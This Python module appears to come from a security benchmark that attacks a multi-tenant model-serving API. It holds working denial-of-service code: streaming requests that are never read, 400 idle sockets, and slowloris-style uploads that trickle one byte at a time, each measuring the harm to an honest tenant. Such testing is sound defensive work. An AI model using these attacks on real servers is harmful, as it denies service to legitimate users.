"""Attacks by connections: readers that never read, idle connections without a key, uploads that trickle."""

import json
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from functools import partial

from bench.attacks.answers import count, seconds_until, sent
from bench.attacks.target import Limits, Target, adapter_files

__all__ = ["FEW_DESCRIPTORS", "idle_connections", "mute_readers", "slow_uploads"]

FEW_DESCRIPTORS = Limits(descriptors=256)
_NUM_IDLE = 400
_HELD_S = 30.0
_TRICKLE_S = 20.0


@contextmanager
def open_sockets(address: tuple[str, int], heads: Sequence[bytes]) -> Iterator[list[socket.socket]]:
    """A connection for each head, which is sent; the small buffers fill up soon."""
    opened = []
    try:
        for head in heads:
            one = socket.socket()
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            one.settimeout(5.0)
            with suppress(OSError):
                one.connect(address)
                one.sendall(head)
            opened.append(one)
        yield opened
    finally:
        for one in opened:
            one.close()


def head(path: str, key: str, content_type: str, num_bytes: int) -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {num_bytes}\r\n\r\n"
    ).encode()


def mute_readers(target: Target) -> Callable[[], str]:
    """Streams of two tenants take every place of the server but the victim's; none reads what it is sent."""
    newcomer = target.key("newcomer")

    def stream(key: str, num_choices: int) -> bytes:
        body = json.dumps(
            {
                "model": "default",
                "prompt": "a" * 200,
                "max_tokens": 600,
                "ignore_eos": True,
                "n": num_choices,
                "echo": True,
                "logprobs": 20,
                "stream": True,
            }
        ).encode()
        return head("/v1/completions", key, "application/json", len(body)) + body

    keys = [target.key(tenant) for tenant in ("mallory", "trudy")]
    streams = [stream(keys[at % 2], 128 if at < 3 else 127) for at in range(4)]

    def run() -> str:
        with open_sockets(target.address, streams):
            time.sleep(5.0)
            start, answers = time.perf_counter(), []
            while time.perf_counter() - start < 40.0:
                answers.append(sent(partial(target.complete, newcomer, 10.0)))
                time.sleep(1.0)
        return f"a third tenant: {count([answer[:80] for answer in answers])}"

    return run


def idle_connections(target: Target) -> Callable[[], str]:
    def run() -> str:
        with open_sockets(target.address, [b""] * _NUM_IDLE):
            time.sleep(_HELD_S)
        back_s = seconds_until(lambda: "200" in sent(partial(target.client("x").get, "/healthz")), 20.0)
        return f"/healthz on a new connection answers {back_s} s after the connections were closed"

    return run


def slow_uploads(target: Target) -> Callable[[], str]:
    """Two tenants hold two uploads each, and send a byte now and then."""
    keys = [target.key(tenant) for tenant in ("mallory", "trudy")]
    honest = target.key("newcomer")
    start = b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nslow'
    heads = [
        head("/v1/adapters", keys[at % 2], "multipart/form-data; boundary=b", 5 << 20) + start
        for at in range(4)
    ]

    def run() -> str:
        with open_sockets(target.address, heads) as trickles:
            time.sleep(2.0)
            began, answers, trickled_at = time.perf_counter(), [], time.perf_counter()
            while time.perf_counter() - began < 50.0:
                answers.append(sent(partial(target.upload, honest, "honest", adapter_files())))
                if answers[-1].startswith("201"):
                    break
                if time.perf_counter() - trickled_at > _TRICKLE_S:
                    trickled_at = time.perf_counter()
                    for one in trickles:
                        with suppress(OSError):
                            one.sendall(b"x")
                time.sleep(2.0)
            seconds = round(time.perf_counter() - began, 1)
        return f"an honest upload, repeated for {seconds} s: {count([answer[:80] for answer in answers])}"

    return run
